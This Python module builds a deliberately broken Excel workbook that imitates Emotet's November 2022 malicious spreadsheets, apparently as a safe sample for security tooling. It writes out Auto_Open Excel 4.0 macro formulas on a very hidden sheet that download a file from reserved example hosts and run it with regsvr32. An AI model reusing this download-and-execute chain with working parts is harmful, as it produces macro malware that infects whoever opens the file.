"""A workbook that reads like Emotet's of November 2022 and cannot do anything: Excel would not even open it.

Its list of parts (``[Content_Types].xml``) names none of them as a workbook, and without that Excel refuses a package. The library
that the formulas call does not exist, nor do the addresses (RFC 2606). It looks like this: Excel 4.0 formulas that try addresses in
turn and load what comes (public reports on the wave of 2022-11-02, see ``knowledge/data/eras.toml``).
"""

from __future__ import annotations

from xml.sax.saxutils import escape

from mimawari.examples.worked.locked import plain

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_BASE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_ADDRESSES = (
    "https://one.example.com/wp-admin/Kf3/",
    "http://two.example.net/images/x8Qm/",
    "http://three.example.com/css/Zr1/",
    "https://four.example.net/data/p2Lw/",
)
_NAME = r"..\oxnv1.ooccxx"
_LIBRARY = "no-such-library"


def workbook() -> bytes:
    """The package, as the bytes of a ``.xlsm``."""
    sheets = (
        ("見積書", "sheet1", "worksheets", "worksheet", ""),
        ("GGDD", "sheet2", "macrosheets", "xlMacrosheet", ' state="veryHidden"'),
    )
    listed = "".join(f'<sheet name="{name}" sheetId="{n}" r:id="rId{n}"{state}/>' for n, (name, *_, state) in enumerate(sheets, 1))
    book = f'<workbook xmlns="{_MAIN}" xmlns:r="{_BASE}"><sheets>{listed}</sheets><definedNames>{_START}</definedNames></workbook>'
    related = [(f"rId{n}", kind, f"{folder}/{part}.xml") for n, (_, part, folder, kind, _) in enumerate(sheets, 1)]
    parts = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _relations([("rId1", "officeDocument", "xl/workbook.xml")]),
        "xl/_rels/workbook.xml.rels": _relations(related),
        "xl/workbook.xml": book,
        "xl/worksheets/sheet1.xml": _sheet("worksheet", [("A1", _text("無害な見本です。 / An inert example."))]),
        "xl/macrosheets/sheet2.xml": _sheet("xm:macrosheet", [(f"D{n}", _formula(one)) for n, one in enumerate(_formulas(), 1)]),
    }
    return plain({name: part.encode() for name, part in parts.items()})


_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
_START = '<definedName name="_xlnm.Auto_Open" hidden="1">GGDD!$D$1</definedName>'


def _formulas() -> tuple[str, ...]:
    fetched = [f'CALL("{_LIBRARY}","URLDownloadToFileA","JJCCBB",0,"{url}","{_NAME}",0,0)' for url in _ADDRESSES]
    tried = [fetched[0], *(f"IF(HLDX<0,{one})" for one in fetched[1:])]
    return (*tried, f'EXEC("{_LIBRARY} regsvr32.exe {_NAME}")', "RETURN()")


def _relations(rows: list[tuple[str, str, str]]) -> str:
    kinds = {"xlMacrosheet": "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"}
    told = "".join(
        f'<Relationship Id="{name}" Type="{kinds.get(kind, f"{_BASE}/{kind}")}" Target="{target}"/>' for name, kind, target in rows
    )
    return f'<Relationships xmlns="{_PACKAGE}">{told}</Relationships>'


def _sheet(root: str, cells: list[tuple[str, str]]) -> str:
    rows = "".join(f'<row r="{place[1:]}"><c r="{place}"{cell}</c></row>' for place, cell in cells)
    spaces = f'xmlns="{_MAIN}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
    return f"<{root} {spaces}><sheetData>{rows}</sheetData></{root}>"


def _text(words: str) -> str:
    return f' t="inlineStr"><is><t>{escape(words)}</t></is>'


def _formula(words: str) -> str:
    return f' t="b"><f>{escape(words)}</f><v>0</v>'
